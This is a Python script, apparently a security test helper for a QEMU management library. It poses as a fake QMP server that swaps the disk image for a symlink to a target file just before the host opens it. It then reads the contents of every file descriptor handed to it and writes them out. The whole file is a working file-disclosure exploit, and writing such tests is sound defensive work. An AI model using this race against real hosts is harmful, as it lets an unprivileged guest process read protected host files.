# Copyright (c) 2026, vmops.qemu contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A QEMU that waits for a state, and turns the image's name to another file just before that is opened for it.

take_descriptor.py IMAGE WANTED TAKEN -name NAME -uuid UUID -incoming defer -qmp unix:PATH,server=on: IMAGE becomes a
link to WANTED when the settings of the migration have been asked for, and what can be read from the descriptors that
come is written to TAKEN. Runs as the attacker, with the host's own Python.
"""

import contextlib
import json
import os
import socket
import sys

from qmp_server import reply, requests, serve_all, unix_server

image, wanted, taken = sys.argv[1:4]
path = sys.argv[-1].split(":", 1)[1].split(",")[0]
name, uuid = (sys.argv[sys.argv.index(option) + 1] for option in ("-name", "-uuid"))

answers: "dict[str, object]" = {
    "query-name": {"name": name},
    "query-uuid": {"UUID": uuid},
    "query-memory-size-summary": {"base-memory": 16 << 20},
    "qom-get": "pc-i440fx-10.0-machine",
    "query-kvm": {"enabled": False, "present": False},
    "query-cpus-fast": [{"qom-path": "/machine/cpu"}],
    "query-target": {"arch": "x86_64"},
    "query-status": {"status": "inmigrate", "running": False},
    "query-version": {"qemu": {"major": 10, "minor": 0, "micro": 2}, "package": ""},
    "query-migrate": {},
    "query-migrate-capabilities": [
        {"capability": "mapped-ram", "state": False},
        {"capability": "multifd", "state": False},
        {"capability": "late-block-activate", "state": False},
        {"capability": "events", "state": False},
    ],
    "query-migrate-parameters": {"max-bandwidth": 1 << 27, "multifd-channels": 2, "direct-io": False},
    "query-memory-devices": [],
    "query-block": [],
    "query-named-block-nodes": [],
    "query-jobs": [],
    "query-chardev": [],
    "query-iothreads": [],
    "query-memdev": [],
    "query-yank": [],
    "qom-list": [],
    "x-query-ramblock": {"human-readable-text": ""},
    "add-fd": {"fdset-id": 0, "fd": 9},
}
notes: "list[dict[str, object]]" = []


def take(control):
    """What is in a file of which a descriptor has come, and its name."""
    for _level, _kind, data in control:
        for position in range(0, len(data) - 3, 4):
            descriptor = int.from_bytes(data[position : position + 4], sys.byteorder)
            with open(taken, "ab") as handle:
                handle.write(os.pread(descriptor, 65536, 0))


def answer(request):
    command = request["execute"]
    if command == "query-migrate-parameters":
        with contextlib.suppress(OSError):
            os.symlink(wanted, f"{image}.link")
        os.rename(f"{image}.link", image)
    if command == "add-fd":
        notes.append({"fd": 9, "opaque": request["arguments"].get("opaque", "")})
    if command == "query-fdsets":
        return [{"fdset-id": 0, "fds": notes}] if notes else []
    return answers.get(command, {})


def serve(connection):
    greeting = {"QMP": {"version": answers["query-version"], "capabilities": []}}
    connection.sendall(json.dumps(greeting).encode() + b"\n")

    def receive():
        piece, control, _flags, _address = connection.recvmsg(4096, socket.CMSG_SPACE(64))
        take(control)
        return piece

    for request in requests(receive):
        reply(connection, request, answer(request))


serve_all(unix_server(path), serve)
